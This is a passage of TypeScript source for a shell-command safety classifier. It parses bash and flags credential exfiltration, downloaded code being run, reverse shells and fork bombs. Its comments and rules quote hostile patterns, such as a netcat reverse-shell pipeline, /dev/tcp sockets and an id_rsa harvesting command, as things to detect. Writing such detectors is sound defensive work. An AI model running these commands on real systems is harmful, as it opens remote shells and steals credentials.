// Dangerous-command classifier: one of the moat's guards.
//
// Classifies a bash command line into safe / caution / dangerous / blocked by parsing it for real
// (mvdan/sh's parser) and walking every statement, pipeline, list, compound command, function
// body and command/process substitution. Words are expanded as far as statically possible (quote
// removal, ANSI-C strings, known variables, `${x:-default}`, brace expansion, `$IFS` splitting,
// substitutions whose output is a literal `echo`), wrappers are stripped (sudo, env, nice, nohup,
// timeout, xargs, command, exec, busybox, ...) and nested code is classified recursively (`bash -c`,
// `eval`, `su -c`, `ssh host cmd`, heredocs fed to shells, `python -c` shell-outs, ...).
//
// Every simple command then gets the same checks before its rule: the files it reads (outside the
// workspace: caution; ./command-reads.ts), the options and variables that name programs or files
// (./command-helpers.ts, ./command-env.ts, ./command-git.ts), and the data flow of the line:
// credential material is followed from where it is read to a network tool, downloads to the file
// that is later run, across pipes, substitutions, variables, redirects to files and `&&`/`;`
// (./command-flow.ts, ./command-paths.ts). The per-command knowledge lives in ./command-rules.ts
// and the files it imports.
import { type Arg, type CommandView, litArg, type Produced, type RedirectInfo, type RuleContext, type Stdin } from './command-args.js';
import { SHELL_BUILTINS } from './command-builtins.js';
import { envFinding } from './command-env.js';
import { copyTargets, downloadTargets, extractDir, extracts, isNetworkSink, NETWORK_SINKS, secretNames, secretOutput } from './command-flow.js';
import { applyToolOptions } from './command-helpers.js';
import { type Cwd, changeDir, containsSecrets, cwdOutside, isSecretPath, normPath, outsidePath, pathFrom, writeFinding } from './command-paths.js';
import { rawScan, repairSuffix } from './command-raw.js';
import { knowsReads, type ReadPath, readPaths } from './command-reads.js';
import { interpreterKind, isShell, RULES, ruleFor, SAFE_COMMANDS } from './command-rules.js';
import { count, gstr, isNil, items, litValue, nodeType, ParseFailure, parseShell, type Raw, walk } from './command-syntax.js';
import { procSysWrite } from './command-system.js';
import { type Classification, TIER_ORDER, type Tier } from './command-tier.js';
import { ansiC, braceExpand, type Field, hasGlob, splitFields } from './command-words.js';
import { loadLines } from './corpus.js';

export type { Classification, Tier } from './command-tier.js';
export { TIER_ORDER } from './command-tier.js';

/** Reads a command corpus: one command per line, `#` comment lines and blank lines dropped. */
export function loadCommandCorpus(path: string): string[] {
  return loadLines(path);
}

const SAFE_REASON = 'read-only commands only';
const MAX_DEPTH = 8;
const MAX_REASONS = 30;
/** Longer input is not parsed (it would take seconds); it gets caution plus the raw-text scan. */
const MAX_SOURCE = 256 * 1024;

// Operator codes of mvdan/sh's syntax.Token as exposed by the JS build.
const OP_PIPE = 12;
const OP_PIPE_ALL = 13;
const R_OUT = 54; // >
const R_APPEND = 55; // >>
const R_IN = 56; // <
const R_RDWR = 57; // <>
const R_DUP_IN = 58; // <&
const R_DUP_OUT = 59; // >&
const R_CLOBBER = 60; // >|
const R_HEREDOC = 61; // <<
const R_HEREDOC_TABS = 62; // <<-
const R_HERESTRING = 63; // <<<
const R_ALL_OUT = 64; // &>
const R_ALL_APPEND = 65; // &>>
const PROC_OUT = 67; // >(

// ---------------------------------------------------------------------------------------------
// Findings

class Sink {
  readonly findings = new Map<string, Tier>();

  add(tier: Tier, reason: string): void {
    const prev = this.findings.get(reason);
    if (prev === undefined || TIER_ORDER[tier] > TIER_ORDER[prev]) this.findings.set(reason, tier);
  }

  result(): Classification {
    if (this.findings.size === 0) return { tier: 'safe', reasons: [SAFE_REASON] };
    const entries = [...this.findings.entries()].sort((a, b) => TIER_ORDER[b[1]] - TIER_ORDER[a[1]]);
    return { tier: entries[0]![1], reasons: entries.slice(0, MAX_REASONS).map(([r]) => r) };
  }
}

interface Shared {
  sink: Sink;
  /** Variables assigned earlier in the same command line with statically known values. */
  vars: Map<string, string>;
  /** Names of shell functions defined in the command line. */
  funcs: Set<string>;
  /** Variables assigned from command substitutions (value unknown, origin known). */
  taint: Map<string, Origin>;
  /** Files written earlier in the command line with statically known content (`echo ... > x.sh`). */
  files: Map<string, string>;
  /** Files this command line filled with credential material, and what it was. */
  secretFiles: Map<string, string>;
  /** Files this command line wrote from a download or from decoded data. */
  fetchedFiles: Map<string, 'download' | 'decoded'>;
  /** Folders a fetched archive or a clone was unpacked into: their files are downloads too ('' = the workspace). */
  fetchedDirs: string[];
  /** The folder commands run in (see Cwd: '' is the workspace). */
  cwd: Cwd;
  /** File descriptors opened on /dev/tcp or /dev/udp (`exec 3<>/dev/tcp/host/port`). */
  netFds: Set<string>;
}

/** Where a substitution's output (or a variable holding it) came from. */
interface Origin {
  download: boolean;
  decoded: boolean;
  secret?: string;
}

/** What one simple command reads and writes, collected while its rule runs. */
interface Frame {
  /** Credential material among its inputs. */
  secret?: string;
  /** Files it writes (from option tables and rules). */
  outputs: string[];
  /** Its arguments name credential files (from xargs or a substitution that found them). */
  named?: string;
}

function newShared(sink: Sink): Shared {
  return {
    sink,
    vars: new Map(),
    funcs: new Set(),
    taint: new Map(),
    files: new Map(),
    secretFiles: new Map(),
    fetchedFiles: new Map(),
    fetchedDirs: [],
    cwd: '',
    netFds: new Set(),
  };
}

// ---------------------------------------------------------------------------------------------
// Word expansion helpers (the character-level ones are in ./command-words.ts)

function cmdName(text: string): string {
  const trimmed = text.replace(/\/+$/, '');
  const base = trimmed.includes('/') ? trimmed.slice(trimmed.lastIndexOf('/') + 1) : trimmed;
  return (base || text).toLowerCase();
}

/** Index of the wrapped command in `rest` after the wrapper's own options (rest.length when none). */
function commandIndex(rest: Arg[], argShort: string, argLong: string[], assigns = false): number {
  let i = 0;
  while (i < rest.length) {
    const t = rest[i]!.text;
    if (t === '--') return i + 1;
    if (t.startsWith('--') && t.length > 2) {
      const n = t.slice(2).split('=')[0]!;
      if (!t.includes('=') && argLong.includes(n)) i++;
      i++;
      continue;
    }
    if (t.startsWith('-') && t.length > 1) {
      for (let j = 1; j < t.length; j++) {
        if (argShort.includes(t[j]!)) {
          if (j === t.length - 1) i++;
          break;
        }
      }
      i++;
      continue;
    }
    if (assigns && /^[A-Za-z_][A-Za-z0-9_]*=/.test(t)) {
      i++;
      continue;
    }
    return i;
  }
  return rest.length;
}

const SUDO_LONG_ARGS = ['user', 'group', 'prompt', 'close-from', 'host', 'role', 'type', 'command-timeout', 'chdir', 'other-user'];

const PRIVILEGE = new Set(['sudo', 'doas', 'pkexec', 'su', 'runuser', 'chroot', 'sudoedit']);

interface RunOpts {
  stdin?: Stdin;
  redirs: RedirectInfo[];
  privileged: boolean;
  viaXargs: boolean;
  /** xargs is handing this command names of credential files (find -name id_rsa | xargs cat). */
  secretArgs?: string;
}

interface WordState {
  dynamic: boolean;
  subst: boolean;
  proc: boolean;
  download: boolean;
  decoded: boolean;
  quoted: boolean;
  glob: boolean;
  secret: string | undefined;
  secretNames: string | undefined;
}

// ---------------------------------------------------------------------------------------------
// The walker

/** Runtimes and loaders that run the file they are given (interpreters and shells have rules of their own). */
const FILE_RUNNERS =
  /^(?:pwsh|powershell|java|dotnet|mono|wine|wine64|expect|tclsh|wish|rscript|julia|swift|kotlin|groovy|scala|elixir|escript|guile|racket|sbcl|clisp|ocaml|runghc|dart|ld-linux[\w.-]*|ld\.so|ld64\.so[\w.]*|qemu-[\w-]+|crystal|nim|zx|tsx|ts-node)$/;

/** Commands whose output files are filled from their inputs (see copyTargets). */
const COPIERS = new Set(['cp', 'mv', 'install', 'ln', 'zip', 'tee']);

/** What two commands run one after the other produce together (for lists, blocks, branches). */
function merged(a: Produced, b: Produced): Produced {
  return {
    download: a.download || b.download,
    decoded: a.decoded || b.decoded,
    secret: a.secret ?? b.secret,
    secretNames: a.secretNames ?? b.secretNames,
    text: b.text,
  };
}

/** A function of this name would hide a command or builtin. */
function shadowsCommand(name: string): boolean {
  return (
    SHELL_BUILTINS.has(name) ||
    SAFE_COMMANDS.has(name) ||
    Object.prototype.hasOwnProperty.call(RULES, name) ||
    isShell(name) ||
    interpreterKind(name) !== undefined ||
    PRIVILEGE.has(name)
  );
}

/** "inner in outer", keeping at most the innermost two and the outermost context. */
function joinLabel(inner: string, outer: string): string {
  if (!outer) return inner;
  const parts = [inner, ...outer.split(' in ')];
  return (parts.length > 3 ? [parts[0], parts[1], '…', parts[parts.length - 1]] : parts).join(' in ');
}

class Analyzer {
  private readonly ascii: boolean;
  private bytes: Buffer | undefined;
  readonly ctx: RuleContext;

  constructor(
    private readonly src: string,
    private readonly shared: Shared,
    private readonly depth: number,
    private readonly label: string,
  ) {
    // eslint-disable-next-line no-control-regex
    this.ascii = /^[\x00-\x7f]*$/.test(src);
    this.ctx = {
      add: (tier, reason) => this.add(tier, reason),
      fileContent: (path) => this.shared.files.get(normPath(path)),
      classifyCode: (code, label) => this.nested(code, label),
      runArgv: (argv, label, extra) =>
        this.withLabel(label).runArgv(argv, {
          stdin: extra?.stdin,
          redirs: [],
          privileged: !!extra?.privileged,
          viaXargs: !!extra?.viaXargs,
        }),
      reads: (path, what, recursive) => this.noteRead(path, recursive),
      writes: (path) => void this.frame?.outputs.push(path),
      fetched: (path) => this.fetchedOf(path),
      isSecret: (path, recursive) => this.secretOf(path, recursive) !== undefined,
    };
  }

  /** The current simple command's inputs and outputs (see dispatch). */
  private frame: Frame | undefined;

  /** The key a file is remembered under: normalised, relative paths taken from the current folder. */
  private fileKey(path: string): string {
    return pathFrom(this.shared.cwd, path);
  }

  /** Credential material at `path` (or a file this line filled with some): what it is. */
  private secretOf(path: string, recursive = false): string | undefined {
    if (!path || path === '-') return undefined;
    if (isSecretPath(path) || (recursive && containsSecrets(path))) return normPath(path);
    return this.shared.secretFiles.get(this.fileKey(path));
  }

  /** Whether this command line wrote `path` from a download or decoded data. */
  private fetchedOf(path: string): 'download' | 'decoded' | undefined {
    if (!path) return undefined;
    const known = this.shared.fetchedFiles.get(this.fileKey(path));
    if (known) return known;
    if (!this.shared.fetchedDirs.length || path.startsWith('$')) return undefined;
    const key = this.fileKey(path);
    for (const d of this.shared.fetchedDirs) {
      if (d === '' ? !/^[/~?$]/.test(key) : key === d || key.startsWith(`${d}/`)) return 'download';
    }
    return undefined;
  }

  /** A read of `path`: outside the workspace is caution, credential material taints the command's output. */
  private noteRead(path: string, recursive = false, contents = true): string | undefined {
    const out = outsidePath(path, this.shared.cwd);
    if (out !== undefined) this.add('caution', `reads outside the workspace (${out})`);
    const secret = contents ? this.secretOf(path, recursive) : undefined;
    if (secret) {
      this.add('caution', `reads credential material (${secret})`);
      if (this.frame) this.frame.secret ??= secret;
    }
    return secret;
  }

  add(tier: Tier, reason: string): void {
    this.shared.sink.add(tier, this.label ? `${reason} (via ${this.label})` : reason);
  }

  private withLabel(label: string): Analyzer {
    return new Analyzer(this.src, this.shared, this.depth, joinLabel(label, this.label));
  }

  /** Classifies nested shell code (bash -c, eval, heredoc fed to a shell, ...). */
  nested(code: string, label: string): void {
    if (!code.trim()) return;
    const full = joinLabel(label, this.label);
    if (this.depth + 1 > MAX_DEPTH) {
      this.add('caution', `code nested too deeply to analyse (${label})`);
      rawScan(code, (t, r) => this.add(t, r));
      return;
    }
    runSource(code, this.shared, this.depth + 1, full);
  }

  /** Heredoc body without its closing delimiter line (the node's End() includes it). */
  private heredocBody(hdoc: Raw): string {
    const parts = items(hdoc.Parts);
    if (!parts.length) return '';
    if (parts.every((p) => nodeType(p) === 'Lit')) return parts.map((p) => gstr(p.Value)).join('');
    const text = this.slice(hdoc);
    return text.slice(0, text.lastIndexOf('\n') + 1);
  }

  slice(node: Raw): string {
    return this.sliceRange(node.Pos().offs as number, node.End().offs as number);
  }

  private sliceRange(a: number, b: number): string {
    if (this.ascii) return this.src.slice(a, b);
    this.bytes ??= Buffer.from(this.src, 'utf8');
    return this.bytes.subarray(a, b).toString('utf8');
  }

  // -- statements ------------------------------------------------------------------------------

  visitStmts(stmts: Raw, stdin?: Stdin): Produced {
    let out: Produced = {};
    for (const st of items(stmts)) {
      const p = this.visitStmt(st, stdin);
      out = { ...merged(out, p), text: p.text };
    }
    return out;
  }

  visitStmt(stmt: Raw, stdin?: Stdin): Produced {
    if (isNil(stmt)) return {};
    if (stmt.Background) this.add('caution', 'runs a command in the background (&), where it outlives the command line');
    const redirs: RedirectInfo[] = [];
    /** Output redirects: where the command's output lands, once it is known. */
    const outs: { target: string; fd: string; append: boolean; net: boolean }[] = [];
    let input = stdin;
    for (const r of items(stmt.Redirs)) {
      const op = r.Op as number;
      const fd = r.N && !isNil(r.N) ? gstr(r.N.Value) : '';
      if (op === R_HEREDOC || op === R_HEREDOC_TABS) {
        const hasBody = !isNil(r.Hdoc);
        const text = hasBody ? this.heredocBody(r.Hdoc) : '';
        if (hasBody) this.visitSubstsIn(r.Hdoc);
        input = { source: 'heredoc', download: false, decoded: false, text };
        continue;
      }
      const args = isNil(r.Word) ? [] : this.evalWord(r.Word);
      const target = args.map((a) => a.text).join(' ');
      const dynamic = args.some((a) => a.dynamic);
      const tcp = /^\/dev\/(?:tcp|udp)\//.test(target);
      if (tcp) this.shared.netFds.add(fd || (op === R_IN || op === R_RDWR ? '0' : '1'));
      if (op === R_HERESTRING) {
        input = {
          source: 'herestring',
          download: args.some((a) => a.substDownload),
          decoded: args.some((a) => a.substDecoded),
          text: dynamic && args.some((a) => a.subst) ? undefined : target,
          secret: args.find((a) => a.secret)?.secret,
        };
        continue;
      }
      if (op === R_IN) {
        if (tcp) this.add('caution', `opens a network connection (${target})`);
        const secret = tcp ? undefined : (this.noteRead(target) ?? args.find((a) => a.secret)?.secret);
        input = {
          source: 'file',
          download: tcp || args.some((a) => a.substDownload) || this.fetchedOf(target) === 'download',
          decoded: args.some((a) => a.substDecoded) || this.fetchedOf(target) === 'decoded',
          path: target,
          secret,
        };
        redirs.push({ kind: 'in', target, net: tcp });
        continue;
      }
      if (op === R_DUP_IN || (op === R_DUP_OUT && (/^(?:\d+|-|\d+-)$/.test(target) || this.shared.netFds.has(target)))) {
        const net = this.shared.netFds.has(target.replace(/-$/, ''));
        redirs.push({ kind: 'dup', target, net });
        if (net && op === R_DUP_OUT) outs.push({ target: `/dev/tcp (fd ${target})`, fd, append: false, net: true });
        if (net && op === R_DUP_IN && (fd === '' || fd === '0')) input = { source: 'file', download: true, decoded: false, path: `/dev/tcp (fd ${target})` };
        continue;
      }
      redirs.push({ kind: 'out', target, net: tcp });
      if (op === R_RDWR && tcp && (fd === '' || fd === '0')) input = { source: 'file', download: true, decoded: false, path: target };
      outs.push({ target, fd, append: op === R_APPEND || op === R_ALL_APPEND, net: tcp });
      const verb = op === R_APPEND || op === R_ALL_APPEND ? 'redirect appends to' : op === R_RDWR ? 'redirect opens for writing' : 'redirect overwrites';
      const f = writeFinding(target, verb, dynamic);
      if (f) this.add(f.tier, f.reason);
    }
    if (isNil(stmt.Cmd)) return {};
    const produced = this.visitCmd(stmt.Cmd, input, redirs);
    // Remember what was written where, so `bash x.sh` / `./x.sh` / an upload later in the line can be checked.
    for (const r of items(stmt.Redirs)) {
      const op = r.Op as number;
      if (op !== R_OUT && op !== R_APPEND && op !== R_CLOBBER && op !== R_ALL_OUT && op !== R_ALL_APPEND) continue;
      if (r.N && !isNil(r.N) && gstr(r.N.Value) === '2') continue;
      const target = normPath(isNil(r.Word) ? '' : this.slice(r.Word).replace(/^["']|["']$/g, ''));
      const prev = op === R_APPEND || op === R_ALL_APPEND ? (this.shared.files.get(target) ?? '') : '';
      if (produced.text !== undefined) this.shared.files.set(target, `${prev}${produced.text}\n`);
      else this.shared.files.set(target, `${prev}\n# (unknown content)\n`);
    }
    for (const o of outs) {
      if (o.fd === '2') continue;
      if (o.net) {
        if (produced.secret) this.add('dangerous', `sends credential material over a raw network connection (${produced.secret} → ${o.target})`);
        continue;
      }
      const key = this.fileKey(o.target);
      if (produced.secret) this.shared.secretFiles.set(key, produced.secret);
      else if (!o.append) this.shared.secretFiles.delete(key);
      if (produced.download) this.shared.fetchedFiles.set(key, 'download');
      else if (produced.decoded) this.shared.fetchedFiles.set(key, 'decoded');
      else if (!o.append) this.shared.fetchedFiles.delete(key);
      procSysWrite(normPath(o.target), produced.text, this.ctx);
    }
    return produced;
  }

  visitCmd(cmd: Raw, stdin: Stdin | undefined, redirs: RedirectInfo[]): Produced {
    switch (nodeType(cmd)) {
      case 'CallExpr':
        return this.visitCall(cmd, stdin, redirs);
      case 'BinaryCmd': {
        const op = cmd.Op as number;
        if (op === OP_PIPE || op === OP_PIPE_ALL) return this.visitPipeline(cmd, stdin);
        const x = this.visitStmt(cmd.X, stdin);
        const y = this.visitStmt(cmd.Y, stdin);
        return { ...merged(x, y), text: y.text };
      }
      case 'Subshell': {
        const cwd = this.shared.cwd; // a subshell's cd does not outlive it
        const out = this.visitStmts(cmd.Stmts, stdin);
        this.shared.cwd = cwd;
        return out;
      }
      case 'Block':
        return this.visitStmts(cmd.Stmts, stdin);
      case 'IfClause': {
        let c = cmd;
        let out: Produced = {};
        for (let guard = 0; !isNil(c) && guard < 1000; guard++) {
          this.visitStmts(c.Cond, stdin);
          out = merged(out, this.visitStmts(c.Then, stdin));
          c = c.Else;
        }
        return { ...out, text: undefined };
      }
      case 'WhileClause':
        this.visitStmts(cmd.Cond, stdin);
        return this.visitStmts(cmd.Do, stdin);
      case 'ForClause': {
        const loop = cmd.Loop;
        if (nodeType(loop) === 'WordIter') {
          const words = items(loop.Items).flatMap((w) => this.evalWord(w));
          const name = litValue(loop.Name);
          // A short list of known words: the body is read once per word, with the variable set.
          const values = [...new Set(words.map((a) => a.text))];
          if (name && words.length && !words.some((a) => a.dynamic) && values.length <= 8) {
            let out: Produced = {};
            for (const value of values) {
              this.shared.vars.set(name, value);
              this.shared.taint.delete(name);
              const secret = this.secretOf(value, true);
              if (secret) this.shared.taint.set(name, { download: false, decoded: false, secret });
              out = merged(out, this.visitStmts(cmd.Do, stdin));
            }
            this.shared.vars.delete(name);
            return out;
          }
          if (name) {
            this.shared.vars.delete(name);
            // The loop variable carries what its list came from: command output, or credential files.
            const secret = words.find((a) => a.secret)?.secret ?? words.map((a) => this.secretOf(a.text, true)).find((x) => x);
            if (words.some((a) => a.subst) || secret) {
              this.shared.taint.set(name, { download: words.some((a) => a.substDownload), decoded: words.some((a) => a.substDecoded), secret });
            } else this.shared.taint.delete(name);
          }
        } else this.visitSubstsIn(loop);
        return this.visitStmts(cmd.Do, stdin);
      }
      case 'CaseClause': {
        if (!isNil(cmd.Word)) this.evalWord(cmd.Word);
        let out: Produced = {};
        for (const item of items(cmd.Items)) {
          for (const p of items(item.Patterns)) this.visitSubstsIn(p);
          out = merged(out, this.visitStmts(item.Stmts, stdin));
        }
        return { ...out, text: undefined };
      }
      case 'FuncDecl': {
        const name = litValue(cmd.Name);
        if (name) {
          this.shared.funcs.add(name);
          if (shadowsCommand(name)) this.add('caution', `defines a function that shadows the command '${name}'`);
        }
        this.checkForkBomb(cmd, name ?? '');
        this.visitStmt(cmd.Body);
        return {};
      }
      case 'DeclClause':
        return this.visitDecl(cmd);
      case 'TimeClause':
        return this.visitStmt(cmd.Stmt, stdin);
      case 'CoprocClause':
        this.add('caution', 'starts a coprocess');
        return this.visitStmt(cmd.Stmt, stdin);
      case 'ArithmCmd':
      case 'LetClause':
      case 'TestClause':
        this.visitSubstsIn(cmd);
        return {};
      default:
        this.add('caution', `unrecognised shell construct (${nodeType(cmd)})`);
        this.visitSubstsIn(cmd);
        return {};
    }
  }

  private visitPipeline(cmd: Raw, stdin: Stdin | undefined): Produced {
    const stages: Raw[] = [];
    const flatten = (st: Raw): void => {
      const c = isNil(st) ? undefined : st.Cmd;
      if (nodeType(c) === 'BinaryCmd' && ((c.Op as number) === OP_PIPE || (c.Op as number) === OP_PIPE_ALL) && count(st.Redirs) === 0 && !st.Negated) {
        flatten(c.X);
        flatten(c.Y);
      } else stages.push(st);
    };
    flatten(cmd.X);
    flatten(cmd.Y);
    let download = false;
    let decoded = false;
    let secret: string | undefined;
    let names: string | undefined;
    let shellStage = -1;
    let prev: Produced = {};
    for (let i = 0; i < stages.length; i++) {
      const input: Stdin | undefined = i === 0 ? stdin : { source: 'pipe', download, decoded, text: prev.text, secret, secretNames: names };
      prev = this.visitStmt(stages[i], input);
      download ||= !!prev.download;
      decoded ||= !!prev.decoded;
      secret ??= prev.secret;
      names ??= prev.secretNames;
      // A shell running whatever arrives on its stdin, with its output piped on to a network tool,
      // is a reverse shell (the fifo form: cat f | sh -i 2>&1 | nc host port > f).
      if (prev.net && shellStage >= 0) this.add('dangerous', "pipes a shell's output to a network tool (reverse shell)");
      if (prev.runsInput && shellStage < 0) shellStage = i;
    }
    return { download, decoded, text: prev.text, secret, secretNames: names };
  }

  private visitCall(cmd: Raw, stdin: Stdin | undefined, redirs: RedirectInfo[]): Produced {
    const args = items(cmd.Args);
    for (const as of items(cmd.Assigns)) this.visitAssign(as, args.length === 0);
    if (!args.length) return {};
    const argv: Arg[] = [];
    for (const w of args) argv.push(...this.evalWord(w));
    return this.runArgv(argv, { stdin, redirs, privileged: false, viaXargs: false });
  }

  private visitDecl(cmd: Raw): Produced {
    const flags: string[] = [];
    let assigned = 0;
    for (const as of items(cmd.Args)) {
      if (as.Naked) {
        if (isNil(as.Name) && !isNil(as.Value)) flags.push(...this.evalWord(as.Value).map((a) => a.text));
        else assigned++;
        continue;
      }
      assigned++;
      this.visitAssign(as, true);
    }
    const variant = litValue(cmd.Variant) ?? '';
    if (flags.some((f) => /^-[a-zA-Z]*f/.test(f)) && (variant === 'export' || flags.some((f) => /^-[a-zA-Z]*x/.test(f)))) {
      this.add('caution', `exports shell functions to child programs (${variant} ${flags.join(' ')})`);
    }
    // `export -p`, `declare -p`, bare `export`/`declare`: prints every variable.
    const secret =
      assigned === 0
        ? secretOutput(
            variant,
            flags.map((f) => litArg(f)),
          )
        : undefined;
    return secret ? { secret } : {};
  }

  private visitAssign(as: Raw, persistent: boolean): void {
    const name = litValue(as.Name);
    let value = '';
    let dynamic = false;
    let origin: Origin | undefined;
    if (!isNil(as.Value)) {
      const parts = this.evalWord(as.Value, true);
      value = parts.map((p) => p.text).join(' ');
      dynamic = parts.some((p) => p.dynamic);
      if (parts.some((p) => p.subst)) {
        origin = { download: parts.some((p) => p.substDownload), decoded: parts.some((p) => p.substDecoded), secret: parts.find((p) => p.secret)?.secret };
      }
    }
    const isArray = !isNil(as.Array);
    if (isArray) this.visitSubstsIn(as.Array);
    if (!isNil(as.Index)) this.visitSubstsIn(as.Index);
    if (!name) return;
    if (persistent) {
      if (origin) this.shared.taint.set(name, origin);
      else this.shared.taint.delete(name);
      if (!dynamic && !isArray && isNil(as.Index)) this.shared.vars.set(name, as.Append ? (this.shared.vars.get(name) ?? '') + value : value);
      else this.shared.vars.delete(name);
    }
    this.checkVariable(name, value, dynamic);
  }

  private checkVariable(name: string, value: string, dynamic: boolean): void {
    envFinding(name, value, dynamic, this.ctx);
  }

  private checkForkBomb(fd: Raw, name: string): void {
    if (!name || isNil(fd.Body)) return;
    let selfCalls = 0;
    let spawns = false;
    walk(fd.Body, (n: Raw) => {
      const t = nodeType(n);
      if (t === 'CallExpr') {
        const w = items(n.Args)[0];
        const parts = w ? items(w.Parts) : [];
        if (
          parts.length &&
          parts.every((p) => nodeType(p) === 'Lit') &&
          parts
            .map((p) => gstr(p.Value))
            .join('')
            .replace(/\\/g, '') === name
        )
          selfCalls++;
      } else if (t === 'BinaryCmd' && ((n.Op as number) === OP_PIPE || (n.Op as number) === OP_PIPE_ALL)) spawns = true;
      else if (t === 'Stmt' && n.Background) spawns = true;
      return true;
    });
    if (selfCalls > 0 && spawns) this.add('blocked', `fork bomb (function ${name} spawns copies of itself)`);
    else if (selfCalls > 0) this.add('caution', `recursive shell function ${name}`);
  }

  // -- words -----------------------------------------------------------------------------------

  /** Expands a word into arguments; visits (and reports) any substitutions inside it. */
  evalWord(word: Raw, assign = false): Arg[] {
    const st: WordState = {
      dynamic: false,
      subst: false,
      proc: false,
      download: false,
      decoded: false,
      quoted: false,
      glob: false,
      secret: undefined,
      secretNames: undefined,
    };
    const acc: Field = { text: '', mask: '' };
    const push = (t: string, m: string): void => {
      acc.text += t;
      acc.mask += m.repeat(t.length);
    };
    const parts = items(word.Parts);
    for (const part of parts) this.evalPart(part, false, push, st);
    const only = parts.length === 1 ? parts[0] : undefined;
    const onlyType = nodeType(only);
    const inner = onlyType === 'DblQuoted' ? items(only.Parts) : [];
    const substOnly = onlyType === 'CmdSubst' || onlyType === 'ProcSubst' || (inner.length === 1 && nodeType(inner[0]) === 'CmdSubst');
    let fields: Field[];
    if (assign) fields = [acc];
    else {
      fields = splitFields(acc, this.shared.vars.get('IFS') ?? ' \t\n');
      if (!fields.length && st.quoted) fields = [{ text: '', mask: '' }];
      fields = fields.flatMap((f) => braceExpand(f));
    }
    const raw = this.slice(word);
    return fields.map((f) => ({
      text: f.text,
      raw,
      dynamic: st.dynamic,
      glob: st.glob || hasGlob(f),
      subst: st.subst,
      procSubst: st.proc,
      substDownload: st.download,
      substDecoded: st.decoded,
      substOnly,
      secret: st.secret,
      secretNames: st.secretNames,
    }));
  }

  private evalPart(part: Raw, quoted: boolean, push: (t: string, m: string) => void, st: WordState): void {
    switch (nodeType(part)) {
      case 'Lit': {
        const v = gstr(part.Value);
        if (quoted) {
          push(
            v.replace(/\\([$`"\\\n])/g, (_m, c: string) => (c === '\n' ? '' : c)),
            'q',
          );
          return;
        }
        for (let i = 0; i < v.length; i++) {
          if (v[i] === '\\' && i + 1 < v.length) {
            i++;
            if (v[i] !== '\n') push(v[i]!, 'q');
          } else push(v[i]!, 'u');
        }
        return;
      }
      case 'SglQuoted':
        st.quoted = true;
        push(part.Dollar ? ansiC(gstr(part.Value)) : gstr(part.Value), 'q');
        return;
      case 'DblQuoted':
        st.quoted = true;
        for (const p of items(part.Parts)) this.evalPart(p, true, push, st);
        return;
      case 'ParamExp': {
        const v = this.paramValue(part);
        const origin = this.shared.taint.get(litValue(part.Param) ?? '');
        if (origin) {
          // the variable holds command output: treat its use like the substitution itself
          st.subst = true;
          st.download ||= origin.download;
          st.decoded ||= origin.decoded;
          st.secret ??= origin.secret;
        }
        if (v === undefined) {
          st.dynamic = true;
          push(this.slice(part), 'd');
        } else push(v, quoted ? 'Q' : 's');
        return;
      }
      case 'CmdSubst': {
        st.subst = true;
        const prod = this.visitSubst(part.Stmts, 'command substitution');
        st.download ||= !!prod.download;
        st.decoded ||= !!prod.decoded;
        st.secret ??= prod.secret;
        st.secretNames ??= prod.secretNames;
        if (prod.text !== undefined && !prod.download) push(prod.text.replace(/\n+$/, ''), quoted ? 'Q' : 's');
        else {
          st.dynamic = true;
          push(this.slice(part), 'd');
        }
        return;
      }
      case 'ProcSubst': {
        st.subst = true;
        st.proc = true;
        st.dynamic = true;
        const stdin: Stdin | undefined = (part.Op as number) === PROC_OUT ? { source: 'pipe', download: false, decoded: false } : undefined;
        this.add('caution', 'uses process substitution');
        const prod = this.visitStmts(part.Stmts, stdin);
        st.download ||= !!prod.download;
        st.decoded ||= !!prod.decoded;
        st.secret ??= prod.secret;
        push(this.slice(part), 'd');
        return;
      }
      case 'ArithmExp':
        st.dynamic = true;
        this.visitSubstsIn(part);
        push(this.slice(part), 'd');
        return;
      case 'ExtGlob':
        st.glob = true;
        push(this.slice(part), 'u');
        return;
      default:
        st.dynamic = true;
        this.visitSubstsIn(part);
        push(this.slice(part), 'd');
    }
  }

  private paramValue(pe: Raw): string | undefined {
    const name = litValue(pe.Param);
    if (!name) return undefined;
    const plain = !pe.Excl && !pe.Length && !pe.Width && isNil(pe.Index) && isNil(pe.Slice) && isNil(pe.Repl);
    const hasExp = !isNil(pe.Exp);
    if (plain && !hasExp) return this.shared.vars.get(name) ?? (name === 'IFS' ? ' ' : undefined);
    if (plain && hasExp) {
      const op = /^\$\{[A-Za-z_0-9@*#?$!-]+(:?[-=+?])/.exec(this.slice(pe))?.[1] ?? '';
      const known = this.shared.vars.get(name);
      if (op.endsWith('-') || op.endsWith('=')) {
        if (known !== undefined && (known !== '' || !op.startsWith(':'))) return known;
        if (isNil(pe.Exp.Word)) return '';
        const vals = this.evalWord(pe.Exp.Word, true);
        if (vals.some((v) => v.dynamic)) return undefined;
        const v = vals.map((x) => x.text).join(' ');
        if (op.endsWith('=')) this.shared.vars.set(name, v);
        return v;
      }
    }
    this.visitSubstsIn(pe);
    return undefined;
  }

  private visitSubst(stmts: Raw, kind: string): Produced {
    this.add('caution', `uses ${kind}`);
    return this.visitStmts(stmts);
  }

  /** Finds command/process substitutions anywhere below `node` (arithmetic, tests, patterns, ...). */
  visitSubstsIn(node: Raw): void {
    walk(node, (n: Raw) => {
      const t = nodeType(n);
      if (t === 'CmdSubst') {
        this.visitSubst(n.Stmts, 'command substitution');
        return false;
      }
      if (t === 'ProcSubst') {
        this.visitSubst(n.Stmts, 'process substitution');
        return false;
      }
      return true;
    });
  }

  // -- simple commands -------------------------------------------------------------------------

  runArgv(argv: Arg[], o: RunOpts): Produced {
    let i = 0;
    let privileged = o.privileged;
    let viaXargs = o.viaXargs;
    let stdin = o.stdin;
    let secretArgs = o.secretArgs;
    for (let guard = 0; guard < 32; guard++) {
      const word = argv[i];
      if (!word) return {};
      if (word.subst) {
        this.add('dangerous', `command name comes from a command substitution (${word.raw})`);
        if (word.substDownload) this.add('dangerous', 'runs downloaded data as a command');
        if (word.substDecoded) this.add('dangerous', 'runs decoded data as a command');
        if (word.dynamic) return {};
      } else if (word.dynamic) {
        this.add('caution', `command name comes from a variable (${word.raw})`);
        const fetched = this.fetchedOf(word.text);
        if (fetched) this.add('dangerous', `runs a ${fetched === 'download' ? 'downloaded' : 'decoded'} file (${word.raw})`);
        if (stdin?.download || o.redirs.some((r) => r.net)) this.add('dangerous', `runs commands read from the network (${word.raw})`);
        return {};
      }
      const name = cmdName(word.text);
      if (!name) return {};
      const rest = argv.slice(i + 1);
